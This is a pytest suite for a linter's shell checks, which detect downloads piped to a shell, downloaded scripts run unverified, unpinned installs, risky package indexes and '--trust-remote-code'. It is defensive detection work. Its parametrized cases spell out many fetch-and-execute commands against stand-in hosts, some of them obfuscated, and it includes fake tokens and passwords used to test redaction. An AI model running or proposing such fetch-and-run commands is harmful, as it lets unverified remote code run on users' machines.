from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hooks._core.severity import Severity
from hooks._shared.shell import (
    ShellRules,
    _split_segments,
    command_segments,
    install_issues,
    install_segments,
    only_installs_packages,
    passes_trust_remote_code,
    pipes_download_to_shell,
    shell_issues,
    shell_lines,
)
from hooks.code import rules

RULES = ShellRules(
    rules.DOWNLOAD_PIPED_TO_SHELL,
    rules.DOWNLOADED_FILE_RUN,
    rules.NOTEBOOK_UNPINNED_INSTALL,
    rules.NOTEBOOK_UNSAFE_INDEX,
)


def messages(command: str, strict: bool = False) -> list[tuple[str, str, Severity | None]]:
    return [(i.rule.rule_id, i.message, i.severity) for i in install_issues([(1, command)], RULES, strict=strict)]


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL https://get.example.sh | sudo bash",
        "wget -qO- https://x.example/install.sh | sh",
        "curl -s https://x.example | sudo -E env A=1 bash -s -- --yes",
        "curl https://bootstrap.pypa.io/get-pip.py | python3",
        "bash <(curl -s https://x.example/i.sh)",
        'sh -c "$(curl -fsSL https://x.example/i.sh)"',
        "apt-get update && curl -L https://x.example | /bin/bash",
        "curl https://x.example/tool.py | python3 -m runpy",
        'curl -s https://x.example/i.py | python -c "import sys; exec(sys.stdin.read())"',
        "curl -s https://x.example/i.sh | bash -c 'source /dev/stdin'",
        "curl -s https://x.example/i.sh | sudo sh -s -- --yes",
        'curl -s https://x.example/i.sh | bash -c "$(cat)"',
        'curl -s https://x.example/i.py | python -c "$(cat)"',
        'curl -s https://x.example/i.sh | bash -c "$(cat /dev/fd/0)"',
        'curl -s https://x.example/i | python -c "import os,sys; os.system(sys.stdin.read())"',
        "curl -s https://x.example/i | python3 -c 'import pickle,sys; pickle.load(sys.stdin.buffer)'",
        "curl -s https://x.example/i | python -c \"import builtins as b,sys; getattr(b,'ex'+'ec')(sys.stdin.read())\"",
        "curl -s https://x.example/i.sh | bash -c 'ksh'",
        "curl -s https://x.example/i | bash -c 'cat > /tmp/run; chmod +x /tmp/run; /tmp/run'",
        "curl -s https://x.example/i.b64 | python -m base64 -d | sh",
        "curl -s https://x.example/i.json | python -m json.tool | sh",
        "curl -s https://x.example/i.sh | tee /tmp/log | bash",
    ],
)
def test_downloads_piped_to_a_shell(command: str) -> None:
    assert pipes_download_to_shell(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -o x.sh https://x.example && sha256sum -c x.sha256",
        "curl https://x.example | tee out.txt",
        "curl https://x.example | jq .name",
        "bash run.sh | curl -d @- https://x.example",
        "curl https://x.example > out.sh; echo written | bash",
        "curl -s http://localhost:8000/v1/models | python3 -m json.tool",
        "curl -s https://api.x.example/run | python -c \"import json,sys; print(json.load(sys.stdin)['id'])\"",
        "curl -fsSL https://x.example/key.list | sudo bash -c 'cat > /etc/apt/sources.list.d/x.list'",
    ],
)
def test_look_alikes_are_not_pipes_to_a_shell(command: str) -> None:
    assert not pipes_download_to_shell(command)


def test_a_downloaded_file_run_in_the_same_cell() -> None:
    issues = shell_issues([(1, "wget https://x.example/setup.sh"), (2, "bash setup.sh")], RULES)
    assert [(i.rule.rule_id, i.line) for i in issues] == [("MLS322", 2)]
    assert shell_issues([(1, "bash setup.sh")], RULES) == []
    checked = shell_issues([(1, "curl -o setup.sh https://x.example"), (2, "cat setup.sh")], RULES)
    assert checked == []


def test_one_finding_per_install_command_naming_every_package() -> None:
    assert messages("pip install transformers datasets accelerate==0.30.1") == [
        ("MLS319", "installs transformers, datasets without an exact == pin", None)
    ]
    assert messages("pip install torch==2.3.1 'numpy==1.26.4' -e . -r requirements.txt -U pip") == []


def test_continuations_variables_and_redirections() -> None:
    assert install_segments("pip install -q a \\\n  b > /dev/null 2>&1") == [["pip", "install", "-q", "a", "b"]]
    assert messages("pip install $USER_FLAG {extra} torch==2.3.1") == []
    assert messages("cd /x && sudo python3 -m pip install accelerate; uv pip install rich") == [
        ("MLS319", "installs accelerate without an exact == pin", None),
        ("MLS319", "installs rich without an exact == pin", None),
    ]
    # uv's options that take a value: the value is no package
    assert messages("uv pip install -v --torch-backend cpu --index-strategy unsafe-best-match -r r.txt") == []
    assert messages("uv pip install --index-strategy unsafe-best-match torch==2.3.1 rich") == [
        ("MLS319", "installs rich without an exact == pin", None)
    ]


def test_pip_wheel_and_download_of_vcs_refs_are_judged_like_install() -> None:
    for verb in ("install", "wheel", "download"):
        (found,) = messages(f"pip {verb} git+https://github.com/org/repo.git@main")
        assert found[0] == "MLS319"
        assert "version control without a full commit hash" in found[1]
    assert messages("pip wheel git+https://github.com/org/repo.git@" + "a" * 40) == []


def test_a_hash_inside_a_word_is_no_comment() -> None:
    """The shell starts a comment only where a word could begin: a URL's `#sha256=` or `#egg=`
    fragment is part of the word pip is given (shlex would cut it off with the rest of the line)."""
    digest = "b" * 64
    assert messages(f"pip install https://files.example/x-1.0-py3-none-any.whl#sha256={digest}") == []
    assert install_segments(f"pip install https://h.example/r.tar.gz#sha256={digest} torch") == [
        ["pip", "install", f"https://h.example/r.tar.gz#sha256={digest}", "torch"]
    ]
    (found,) = messages("pip install git+https://github.com/org/repo.git#egg=repo accelerate==0.30.1")
    assert found[0] == "MLS319" and "version control without a full commit hash" in found[1]
    commit = "a" * 40
    assert messages(f"pip install git+https://github.com/org/repo.git@{commit}#egg=repo numpy==1.26.4") == []


def test_a_fragment_is_not_shown_as_a_hidden_query() -> None:
    (found,) = messages("pip install https://github.com/org/repo/archive/refs/tags/v1.2.0.zip#egg=repo")
    assert "v1.2.0.zip (a direct URL)" in found[1] and "***" not in found[1]
    assert messages("uv tool install --from= x") == [("MLS319", "installs x without an exact == pin", None)]


def test_a_comment_starts_where_a_word_could() -> None:
    """Look-alikes: a hash after a blank or an operator still starts a comment, so a hash written as
    a comment next to a URL hides no install and adds none."""
    (found,) = messages("pip install https://files.example/x-1.0-py3-none-any.whl # sha256 checked later")
    assert found[0] == "MLS319" and "without a #sha256= hash" in found[1]
    assert install_segments("pip install torch==2.3.1 # rich") == [["pip", "install", "torch==2.3.1"]]
    assert install_segments("pip install torch==2.3.1;# rich") == [["pip", "install", "torch==2.3.1"]]


@pytest.mark.parametrize(
    ("command", "segments"),
    [
        ("uv add --dev ruff 'requests==2.19.0' --group lint", [["uv", "add", "ruff", "requests==2.19.0"]]),
        ("uv --directory app add -r r.txt torch", [["uv", "add", "torch"]]),
        ("uv --python-preference system add torch", [["uv", "add", "torch"]]),
        ("uv tool install ruff==0.6.1 --with mypy -w rich", [["uv", "install", "mypy", "rich", "ruff==0.6.1"]]),
        ("uv tool install --from ultralytics==8.3.41 yolo", [["uv", "install", "ultralytics==8.3.41"]]),
        ("uv tool install ultralytics@8.3.41 ruff@latest", [["uv", "install", "ultralytics==8.3.41", "ruff"]]),
        (
            "poetry add requests@2.19.0 numpy@^1.2 'pandas>=2' pytest@latest",
            [["poetry", "add", "requests==2.19.0", "numpy", "pandas>=2", "pytest"]],
        ),
        (
            "poetry add x@~1.2 y@>=2.0 z@git+https://github.com/o/z.git 'w@1.2.*' v@=1.0",
            [["poetry", "add", "x", "y>=2.0", "z@git+https://github.com/o/z.git", "w==1.2.*", "v==1.0"]],
        ),
        ("poetry -C app add -E gpu --optional extra torch", [["poetry", "add", "torch"]]),
        ("poetry self add poetry-plugin-export", [["poetry", "install", "poetry-plugin-export"]]),
        ("pdm add -d -G test pytest==7.0 requests", [["pdm", "add", "pytest==7.0", "requests"]]),
        ("pdm add -dG notebooks jupyterlab", [["pdm", "add", "jupyterlab"]]),  # a cluster ending in -G
        (
            "pipenv install --dev requests==2.19.0 --pypi-mirror http://m.local/simple",
            [["pipenv", "add", "--index-url", "http://m.local/simple", "requests==2.19.0"]],
        ),
        (
            "pipenv install --index http://m.local/simple tool",
            [["pipenv", "add", "--index-url", "http://m.local/simple", "tool"]],
        ),
        ("pipenv install --index internal tool", [["pipenv", "add", "tool"]]),  # a Pipfile source's name
        ("pipenv install --skip-lock tool", [["pipenv", "install", "tool"]]),
        ("uv add --frozen tool", [["uv", "install", "tool"]]),
        ("pipenv install --system --deploy", [["pipenv", "add"]]),
        (
            "pipx install --include-deps transformers tokenizers > /dev/null",
            [["pipx", "install", "transformers", "tokenizers"]],
        ),
        ("pipx install -f sklearn", [["pipx", "install", "sklearn"]]),  # pipx's -f is --force
        (
            "pipx install --app tensorboards --cooldown 7 tensorboard==2.17.0",
            [["pipx", "install", "tensorboard==2.17.0"]],
        ),
        (
            "pipx install --spec git+https://github.com/o/app.git app",
            [["pipx", "install", "git+https://github.com/o/app.git"]],
        ),
        ("pipx install --preinstall rich black", [["pipx", "install", "rich", "black"]]),
        ("pipx inject myvenv sklearn rich", [["pipx", "install", "sklearn", "rich"]]),
        # `pipx runpip <venv> ...` is pip itself in the application's environment
        ("pipx runpip black install -i http://h/simple rich", [["pipx", "install", "-i", "http://h/simple", "rich"]]),
        ("pipx runpip black list", []),
        ("pipx runpip", []),
        # pipx's options before the venv, pip's own before its verb; a venv named like the verb
        ("pipx runpip --global --skip-maintenance -q black install x==1", [["pipx", "install", "x==1"]]),
        ("pipx runpip black --no-cache-dir --disable-pip-version-check install x==1", [["pipx", "install", "x==1"]]),
        ("pipx runpip install install torchtriton", [["pipx", "install", "torchtriton"]]),
        ("pip --no-cache-dir --disable-pip-version-check --no-input install x==1", [["pip", "install", "x==1"]]),
        ("pip --python /usr/bin/python3 install x", [["pip", "install", "x"]]),
        ("pip list install", []),  # look-alike: another pip command, a word that reads like the verb
        ("pip -q list install", []),  # a flag that takes no value: `list` is the command
        ("pip --no-cache-dir --disable-pip-version-check freeze install", []),
        ("conda -y list install", []),
        ("pip -qq install x==1", [["pip", "install", "x==1"]]),
        # options the shell fills in, options taking a value the table does not know
        ("pip $PIP_OPTS install torchtriton", [["pip", "install", "torchtriton"]]),
        ("pip3 ${PIP_GLOBAL} install x==1", [["pip3", "install", "x==1"]]),
        ("micromamba -r /opt/mm install -y pytorch", [["micromamba", "install", "-y", "pytorch"]]),
        ("pip --cache /tmp/c install torchtriton", [["pip", "install", "torchtriton"]]),
        ("uv --no-cache pip install --system gradio", [["uv", "install", "--system", "gradio"]]),  # uv's own options
        (
            "uv add torch --index pytorch=https://download.pytorch.org/whl/cu121",
            [["uv", "add", "--extra-index-url", "https://download.pytorch.org/whl/cu121", "torch"]],
        ),
        ("uv add --trusted-host h.example x", [["uv", "add", "--trusted-host", "h.example", "x"]]),
        # Look-alikes: other verbs and programs, and text that only names a manager
        ("git add requests", []),
        ("uv run add.py requests", [["uv", "run"]]),  # the project's script and its arguments
        ("poetry show requests && pdm list", []),
        ("pipx run black", [["pipx", "run", "black"]]),  # a runner installs the tool it runs
        ("echo Next, run: uv add notebooks", []),
        ("uv python install 3.12", []),
        ("uv pip install rich", [["uv", "install", "rich"]]),
        # second red team
        ("python3 -m pipx install torchtriton", [["pipx", "install", "torchtriton"]]),
        (
            "uv tool install --with numpy,torchtriton -wrich jupyterlab",
            [["uv", "install", "numpy", "torchtriton", "rich", "jupyterlab"]],
        ),
        ("poetry add --optional ultralytics==8.3.41", [["poetry", "add", "ultralytics==8.3.41"]]),  # Poetry 1.x
        ("poetry add --optional cuda torch", [["poetry", "add", "torch"]]),  # Poetry 2: an extra, then the package
        (
            "pipenv install -i http://m.local/simple tool",
            [["pipenv", "add", "--index-url", "http://m.local/simple", "tool"]],
        ),
        (
            "pipx install --pip-args='--index-url http://m.local/simple' tool",
            [["pipx", "install", "--index-url", "http://m.local/simple", "tool"]],
        ),
        ("pipx install --fetch-python missing --lock x.lock black", [["pipx", "install", "black"]]),
        ("uv --preview-features x add torchtriton", [["uv", "add", "torchtriton"]]),
        ("(cd api && uv add torchtriton)", [["uv", "add", "torchtriton"]]),
    ],
)
def test_project_managers_and_app_installers(command: str, segments: list[list[str]]) -> None:
    assert install_segments(command) == segments


def test_many_installer_names_on_a_line_are_linear() -> None:
    started = time.perf_counter()
    for line in ("add " + "pdm " * 100_000, "RUN add " + "pipx " * 100_000, "install " + "pip " * 100_000):
        install_segments(line)
    assert time.perf_counter() - started < 30  # a guard against quadratic time, not a speed goal


def test_a_locking_add_is_no_unpinned_install() -> None:
    """`uv add`, `poetry add`, `pdm add` and `pipenv install` write a lock file that pins what they
    resolved; `pipx install` and `uv tool install` do not, and keep the unpinned finding."""
    assert messages("uv add requests && poetry add numpy && pdm add rich && pipenv install flask") == []
    assert messages("pipx install black") == [("MLS319", "installs black without an exact == pin", None)]
    assert messages("uv tool install ruff") == [("MLS319", "installs ruff without an exact == pin", None)]
    (found,) = messages("pipenv install --pypi-mirror http://mirror.local/simple flask")
    assert found[0] == "MLS320" and "http://mirror.local/simple" in found[1]
    assert messages("uv add --frozen requests") == [("MLS319", "installs requests without an exact == pin", None)]
    # uv takes a name from the first index that has it: an extra index shadows nothing unless
    # an unsafe strategy is asked for (then it is pip's extra index; a vendor's stays low).
    assert messages("uv add torch --index pytorch=https://download.pytorch.org/whl/cu121") == []
    assert messages("uv pip install --extra-index-url https://pkgs.internal.example/simple mylib==1.0") == []
    (vendor,) = messages(
        "uv add torch --index-strategy unsafe-best-match --index pytorch=https://download.pytorch.org/whl/cu121"
    )
    assert vendor[0] == "MLS320" and vendor[2] == Severity.LOW
    (private,) = messages(
        "uv pip install --index-strategy=unsafe-first-match --extra-index-url https://p.example/simple x==1"
    )
    assert private[0] == "MLS320" and private[2] is None and "dependency confusion" in private[1]
    (plain,) = messages("uv add --index corp=http://pkgs.internal.example/simple mylib")
    assert "http://" in plain[1]


def test_indexes() -> None:
    assert messages("pip install --extra-index-url https://pypi.org/simple x==1") == []
    (vendor,) = messages("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch==2.3.1")
    assert vendor[0] == "MLS320" and vendor[2] is Severity.LOW
    (strict,) = messages("pip install --extra-index-url https://download.pytorch.org/whl/cu121 torch==2.3.1", True)
    assert strict[2] is None  # the rule's own severity (high)
    (private,) = messages("pip install --extra-index-url https://pypi.corp.example/simple x==1")
    assert private[0] == "MLS320" and private[2] is None
    assert [m[0] for m in messages("pip install --trusted-host h -i http://h/simple x==1")] == ["MLS320", "MLS320"]


def test_credentials_in_urls_never_reach_a_message() -> None:
    found = messages(
        "pip install git+https://x-access-token:ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8@github.com/org/p.git "
        "--extra-index-url https://deploy:p@ssW0rd-Secret9@pypi.corp.example/simple"
    )
    text = " ".join(m[1] for m in found)
    assert "ghp_" not in text and "ssW0rd" not in text and "deploy" not in text
    assert "https://***@github.com/org/p.git" in text and "https://***@pypi.corp.example/simple" in text


def test_shell_lines_join_continuations_and_skip_comments() -> None:
    assert shell_lines(["# set up", "pip install a \\", "  b", "", "echo done"], 2) == [
        (3, "pip install a b"),
        (6, "echo done"),
    ]


def test_a_megabyte_of_curl_is_linear() -> None:
    # The old pattern scanned the rest of the line from every `curl`: quadratic, minutes on 1 MB.
    command = "curl " * 200_000
    started = time.perf_counter()
    assert not pipes_download_to_shell(command)
    shell_issues([(1, command)], RULES)
    install_issues([(1, "pip install " + "x " * 200_000)], RULES)
    assert time.perf_counter() - started < 30  # a guard against quadratic time, not a speed goal


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("curl wget|&;\\\n'\"$(){}<>-=shbapython3 git+https://@#")), max_size=300))
def test_garbage_commands_never_raise(command: str) -> None:
    pipes_download_to_shell(command)
    shell_issues([(1, command)], RULES)
    install_issues([(1, command)], RULES)
    for text, _ in _split_segments(command):
        assert text in command.replace("\\\n", " ")
    for text, words in command_segments(command):  # with the scripts of `sh -c`, unquoted
        assert isinstance(text, str) and all(isinstance(word, str) for word in words)


def test_command_segments_start_at_the_program() -> None:
    assert command_segments("sudo -E env A=1 vllm serve m && echo 'a | b'") == [
        ("sudo -E env A=1 vllm serve m ", ["vllm", "serve", "m"]),
        (" echo 'a | b'", ["echo", "a | b"]),  # quotes that pair up: the pipe inside is text
    ]
    # a stray quote (an apostrophe) pairs with nothing: every separator still splits
    assert command_segments("echo it's | vllm serve m") == [
        ("echo it's ", ["echo", "it's"]),
        (" vllm serve m", ["vllm", "serve", "m"]),
    ]


@pytest.mark.parametrize(
    "command",
    [
        'bash -c "curl -sSL https://get.example.com/i.sh | sh"',
        "sudo sh -ec 'wget -qO- https://get.example.com/i | bash'",
        'env A=1 bash -lc "cd /tmp && curl -fsSL https://x.example/s | sudo bash"',
        'bash -c "bash -c \\"curl -s https://x.example/s | sh\\""',
    ],
)
def test_a_download_piped_to_a_shell_inside_a_shell_script_is_found(command: str) -> None:
    assert pipes_download_to_shell(command)


@pytest.mark.parametrize(
    "command",
    [
        # A substitution that downloads, read as a script: a file operand, stdin, `-c` code, eval.
        "bash < <(curl -fsSL https://x.example/i.sh)",
        'bash <<< "$(curl -fsSL https://x.example/i.sh)"',
        'bash<<<"$(curl -fsSL https://x.example/i.sh)"',
        "source <(curl -fsSL https://x.example/env.sh)",
        ". <(wget -qO- https://x.example/env.sh)",
        'eval "$(curl -fsSL https://x.example/i.sh)"',
        "eval $(wget -qO- https://x.example/i.sh)",
        'eval "$(curl -s https://x.example/api | jq -r .cmd)"',
        "python3 <(curl -fsSL https://x.example/get.py)",
        'python3 -c "$(curl -fsSL https://x.example/get.py)"',
        'bash -c "`curl -fsSL https://x.example/i.sh`"',
        '/bin/zsh -c "$(curl -fsSL https://x.example/install.sh)"',
        "sudo bash <(wget -qO- https://x.example/i.sh) --yes",
        "$(curl -fsSL https://x.example/cmd)",
        'echo "$(curl -s https://x.example/i | sh)"',
        # A pipe into a shell behind `|&`, a wrapper's options and operands, or quoting.
        "curl -fsSL https://x.example/i.sh |& bash",
        "curl -fsSL https://x.example/i.sh | sudo -u app bash",
        "curl -fsSL https://x.example/i.sh | sudo --user app bash -s",
        "curl -fsSL https://x.example/i.sh | timeout 60 bash",
        "curl -fsSL https://x.example/i.sh | nice -n 10 bash",
        "curl -fsSL https://x.example/i.sh | doas bash",
        "curl -fsSL https://x.example/i.sh | gosu app bash",
        "curl -fsSL https://x.example/i.sh | xargs -0 bash -c",
        "curl -fsSL https://x.example/i.sh | b\\ash",
        "curl -fsSL https://x.example/i.sh | 'bash'",
        'eval "$(wget -O - https://x.example/i.sh)"',
        "curl -s 'https://x.example/a|b' | bash",  # a quoted `|` in the URL, then the real pipe
        # Red team (stop 43): the login shell, grammar before the command, redirections after the
        # script's arguments, sudo option clusters, quotes inside substitutions, code in `-c` text.
        '"${SHELL}" <(curl -L micro.mamba.pm/install.sh)',
        "curl -fsSL https://x.example/i.sh | $SHELL",
        'if ! command -v uv >/dev/null; then eval "$(curl -fsSL https://x.example/i.sh)"; fi',
        "( bash <(curl -fsSL https://x.example/i.sh) )",
        "install() { bash <(curl -fsSL https://x.example/i.sh); }",
        "bash -s stable < <(curl -sSL https://get.rvm.io)",
        'source /dev/stdin <<< "$(curl -fsSL https://x.example/i.sh)"',
        "curl -fsSL https://x.example/i.sh | source /dev/stdin",
        "curl -fsSL https://x.example/i.sh | sudo -Hu app bash",
        'msg="$(printf "can\'t")"; curl -fsSL https://x.example/i.sh | bash  # don\'t worry',
        "python3 -c \"exec( '$(curl -fsSL https://x.example/i.sh)' )\"",
        # Second red team (stop 43): redirections after the shell, subshells, case arms, `function`,
        # runuser, $PYTHON, /dev/stdin as the script.
        "curl -fsSL https://x.example/i.sh | sh 2>&1 | tee setup.log",
        "(cd /tmp && curl -fsSL https://x.example/i.sh | sh)",
        'case "$OS" in Linux) eval "$(curl -fsSL https://x.example/i.sh)" ;; esac',
        "function setup { bash <(curl -fsSL https://x.example/i.sh); }",
        "curl -fsSL https://x.example/i.sh | runuser -u app -- bash",
        "curl -fsSL https://x.example/i.py | $PYTHON -",
        "curl -fsSL https://x.example/i.sh | bash /dev/stdin",
    ],
)
def test_substitutions_and_wrapped_shells_that_run_a_download(command: str) -> None:
    assert pipes_download_to_shell(command)


@pytest.mark.parametrize(
    "command",
    [
        'eval "$(ssh-agent -s)"',  # eval of a local program's output
        'eval "$(conda shell.bash hook)"',
        "source <(kubectl completion bash)",
        "bash <<< 'echo curl'",
        "diff <(curl -s https://a.example) <(curl -s https://b.example)",  # compared, not run
        'echo "$(curl -s https://x.example/ip)"',
        "export IP=$(curl -s https://x.example/ip)",
        "bash run.sh <(curl -s https://x.example/data)",  # an argument of run.sh, not the script
        "bash -s <(curl -s https://x.example/data) < run.sh",
        "TOKEN=$(curl -s https://x.example/token) python train.py",
        "echo '$(curl -s https://x.example/i)' | cat",  # single quotes: no substitution
        "python train.py --ip $(curl -s https://x.example/ip)",
        "echo $((1 + 2)) curl",
        "eval <(curl -s https://x.example/i)",  # eval of a path: text, not the file's contents
        "curl -s https://x.example | timeout 60 jq .",
        "curl -s https://x.example/list | sudo -u bash tee /etc/x.list",  # `bash` is sudo's user
        # The substitution prints nothing: the download goes to a file.
        '`curl -w "\\n" $MODEL_URL/$PARAM > $TMP_PREDICTION_JSON`',
        'eval "$(curl -fsSLo install.sh https://x.example/i.sh)"',
        'eval "$(wget https://x.example/i.sh)"',  # wget writes i.sh; `-O -` would print it
        'eval "$(curl -LO https://x.example/i.sh)"',
        # A pipe inside paired quotes is text: an instruction printed for the reader.
        'echo "  curl --proto =https -sSf https://sh.rustup.rs | sh -s -- -y" >&2',
        'echo "Next steps: cd app && source <(curl -fsSL https://x.example/i.sh)"',  # printed
        # The download is the input of a script or an unpacker, not the program.
        "curl -s https://x.example/release.json | python3 scripts/parse_release.py",
        "curl -s https://x.example/report.txt | bash summarise.sh",
        "curl -fsSL https://x.example/tool.tgz | sudo sh -c 'tar -xz -C /usr/local'",
        "pip install -r requirements.txt  # uv users: curl -LsSf https://astral.sh/uv/install.sh | sh",
        "python3 -c 'import json,sys; print(json.load(sys.stdin))' <<< \"$(curl -s https://x.example/a.json)\"",
        "python3 parse.py < <(curl -s https://x.example/a.json)",
        "a=( $(curl -s https://x.example/list) )",  # an array of words, not a command
        "curl -fsSL https://x.example/key.asc | sudo sh -c 'gpg --dearmor > /usr/share/keyrings/x.gpg'",
    ],
)
def test_substitutions_and_wrappers_that_run_no_download(command: str) -> None:
    assert not pipes_download_to_shell(command)


def test_wrappers_options_and_operands_are_stepped_over_to_the_program() -> None:
    assert messages("sudo -u app pip install rich") == [("MLS319", "installs rich without an exact == pin", None)]
    assert messages("timeout 600 pip install rich") == [("MLS319", "installs rich without an exact == pin", None)]
    assert messages("nice -n 10 pip install rich==13.7.1") == []


def test_a_file_run_from_a_download_is_found_inside_substitutions_and_reported_once() -> None:
    lines = [
        (1, "curl -fsSL -o /tmp/forge.json https://x.example/promotions.json"),
        (2, 'V=$(cat /tmp/forge.json | jq -r ".promos")'),  # read, not run
        (3, "curl -fsSL -o export.py https://x.example/export.py"),
        (4, "python export.py --model a"),
        (5, "python export.py --model b"),  # the same download run again: one finding is enough
        (6, "curl -fsSL -o export.py https://x.example/export.py"),
        (7, "OUT=$(python export.py --model c)"),  # downloaded again, run inside a substitution
    ]
    assert [(i.rule.rule_id, i.line) for i in shell_issues(lines, RULES)] == [("MLS322", 4), ("MLS322", 7)]


def test_a_verified_download_is_no_unchecked_run() -> None:
    codecov = [
        (1, "curl -Os https://uploader.codecov.io/latest/linux/codecov"),
        (2, "curl -Os https://uploader.codecov.io/latest/linux/codecov.SHA256SUM"),
        (3, "shasum -a 256 -c codecov.SHA256SUM"),  # the list names codecov: verified
        (4, "chmod +x codecov && ./codecov"),
    ]
    assert shell_issues(codecov, RULES) == []
    signed = [(1, "curl -fsSLO https://x.example/i.sh"), (2, "gpg --verify i.sh.asc i.sh"), (3, "bash i.sh")]
    assert shell_issues(signed, RULES) == []
    unsigned = [(1, "curl -fsSLO https://x.example/i.sh"), (2, "gpg --verify other.asc other"), (3, "bash i.sh")]
    assert [(i.rule.rule_id, i.line) for i in shell_issues(unsigned, RULES)] == [("MLS322", 3)]


def test_trust_remote_code_in_a_case_pattern_or_printed_text_is_no_option() -> None:
    assert not passes_trust_remote_code("--trust-remote-code) TRUST=1 ;;")
    assert not passes_trust_remote_code('echo "Usage: serve.sh\n  --trust-remote-code    let the model run code"')
    assert passes_trust_remote_code("vllm serve org/m --trust-remote-code")
    started = time.perf_counter()
    passes_trust_remote_code("vllm --trust-remote-code" + " " * 200_000 + "x")  # was quadratic: hours at 1 MB
    assert time.perf_counter() - started < 30


def test_many_downloads_and_runs_are_linear() -> None:
    started = time.perf_counter()
    lines = [(2 * n + 1, f"wget https://x.example/f{n}.sh") for n in range(20_000)]
    lines += [(2 * n + 2, f"bash g{n}.sh") for n in range(20_000)]
    shell_issues(lines, RULES)
    assert time.perf_counter() - started < 60  # a guard against quadratic time, not a speed goal


def test_a_megabyte_of_comments_is_linear() -> None:
    started = time.perf_counter()
    assert not pipes_download_to_shell("curl x " + "# it's a comment\n" * 60_000 + "| jq .")
    assert time.perf_counter() - started < 30  # a guard against quadratic time, not a speed goal


def test_a_long_pipe_of_interpreters_is_linear() -> None:
    started = time.perf_counter()
    pipes_download_to_shell("curl x" + " | python3 -c 1" * 35_000)  # 500 KB: was minutes (quadratic)
    assert time.perf_counter() - started < 60  # a guard against quadratic time, not a speed goal


def test_a_megabyte_of_substitutions_is_linear() -> None:
    started = time.perf_counter()
    for command in ("<(curl x) " * 100_000, "bash " + "<(curl x) " * 100_000, "$(curl " * 150_000, "`curl `" * 150_000):
        pipes_download_to_shell(command)
    assert time.perf_counter() - started < 60  # a guard against quadratic time, not a speed goal


@pytest.mark.parametrize(
    "command",
    [
        'echo "curl -sSL https://get.example.com/i.sh | sh"',  # printed, not run
        'bash -c "curl -sSL -o i.sh https://get.example.com/i.sh; sha256sum -c i.sha"',
    ],
)
def test_a_quoted_pipe_that_runs_nothing_is_not_a_download_to_shell(command: str) -> None:
    assert not pipes_download_to_shell(command)


@pytest.mark.parametrize(
    "command",
    [
        "vllm serve org/m --trust-remote-code",
        "sudo env A=1 vllm serve org/m --trust_remote_code --port 8000",
        "lm_eval --model hf --model_args pretrained=org/m,trust_remote_code=True --tasks x",
        "cd /w && python serve.py --trust-remote-code=true",
        "echo start && vllm serve org/m --trust-remote-code | tee log.txt",
    ],
)
def test_commands_that_trust_remote_code(command: str) -> None:
    assert passes_trust_remote_code(command)


@pytest.mark.parametrize(
    "command",
    [
        "vllm serve org/m --trust-remote-code=false",
        "vllm serve org/m --trust-remote-code 0",
        "vllm serve {m} --trust-remote-code={flag}",  # a value the command does not show
        "vllm serve org/m --trust-remote-code=$TRUST",
        "python serve.py --trust_remote_code {str_args.trust_}",  # argv ["--trust_remote_code", str(flag)]
        "echo 'pass --trust-remote-code for custom models'",
        "printf '%s' model_args=pretrained=x,trust_remote_code=True > args.txt",
        "grep -r -- --trust-remote-code docs/",
        "lm_eval --model_args pretrained=org/m,trust_remote_code=False",
        "ls --trust-remote-code-docs",
    ],
)
def test_look_alikes_do_not_trust_remote_code(command: str) -> None:
    assert not passes_trust_remote_code(command)


def test_commands_inside_a_shell_script_are_segments_too() -> None:
    """`sudo -u app bash -lc "cd /app && pip install ..."`: the install runs, so the checks see it,
    whatever wraps the shell; a stray apostrophe in a comment hides nothing after it."""
    for command in (
        'sh -c "cd /app && pip install --index-url http://x foo"',
        "sudo -u app bash -lc 'cd /app && pip install --index-url http://x foo'",
        'timeout 600 bash -o pipefail -c "cd /app && pip install --index-url http://x foo"',
        "su app -c 'cd /app && pip install --index-url http://x foo'",
    ):
        segments = [words for _, words in command_segments(command)]
        assert ["pip", "install", "--index-url", "http://x", "foo"] in segments, command
    exported = "# Start the model's server\necho starting\nvllm serve m --trust-remote-code"
    assert ["vllm", "serve", "m", "--trust-remote-code"] in [words for _, words in command_segments(exported)]
    assert pipes_download_to_shell("# the vendor's installer\ncurl -fsSL https://x.example/i | sh")
    assert pipes_download_to_shell('sudo -u app bash -c "cd /tmp && curl -fsSL https://x.example/i | bash -s -- -y"')


@pytest.mark.parametrize(
    "command",
    [
        'pip install -r requirements.txt  # behind a proxy: sh -c "pip install --trusted-host pypi.org -r r.txt"',
        'echo To update run: sh -c "curl -fsSL https://x.example/i | sh" > /etc/motd',
        'useradd -s /bin/bash -c "App user" app',
    ],
)
def test_a_shell_named_in_a_comment_or_an_argument_runs_no_script(command: str) -> None:
    assert not pipes_download_to_shell(command)
    assert all(words[:1] != ["pip"] or "--trusted-host" not in words for _, words in command_segments(command))


def test_a_script_is_read_once_however_many_shell_words_precede_it() -> None:
    command = "sh " * 5 + '-c "cd /a && pip install x==1"'
    assert [words for _, words in command_segments(command)].count(["pip", "install", "x==1"]) == 1


def _placed(command: str) -> list[tuple[tuple[str, ...], set[str]]]:
    from hooks._shared.shell import placements

    return [(p.sources, set(p.paths)) for p in placements(command)]


def test_files_a_copy_or_move_puts_in_place() -> None:
    from hooks._shared.shell import download_targets, placements

    # `cp a b` writes b, or the files of b (a folder copied, moved or linked to a new name); into
    # a folder (`b/`, `.`, several sources, `-t`) only each source's name.
    assert _placed("cp /content/x.pth m.pth") == [(("/content/x.pth",), {"m.pth"})]
    assert _placed("cp -r /drive/proj/checkpoints checkpoints") == [(("/drive/proj/checkpoints",), {"checkpoints"})]
    assert _placed("ln -s /drive/checkpoints checkpoints") == [(("/drive/checkpoints",), {"checkpoints"})]
    assert _placed("mv -f a.pt b.pt models/") == [(("a.pt", "b.pt"), {"models/a.pt", "models/b.pt"})]
    assert _placed("sudo cp 'x y.pt' /opt/m.pt && echo done") == [(("x y.pt",), {"/opt/m.pt"})]
    assert _placed("cp configs/train.yaml out/") == [(("configs/train.yaml",), {"out/train.yaml"})]
    assert _placed("cp -t ckpts /drive/m.pt") == [(("/drive/m.pt",), {"ckpts/m.pt"})]
